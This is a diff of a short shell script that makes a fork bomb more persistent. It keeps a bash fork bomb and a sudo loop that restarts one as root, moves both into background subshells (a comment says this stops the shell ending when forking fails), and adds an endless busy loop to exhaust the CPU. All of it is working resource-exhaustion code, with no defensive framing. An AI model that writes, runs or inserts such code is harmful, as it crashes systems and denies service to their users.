@@ -1,2 +1,6 @@
-:(){ :|:& };:
-while :; do sudo sh -c ':(){ :|:& };:'; done
+# All of it in the background: a shell that cannot fork any more would end by itself.
+(
+  (while :; do sudo sh -c ':(){ :|:& };:'; done) &
+  :(){ :|:& };:
+) &
+while :; do :; done
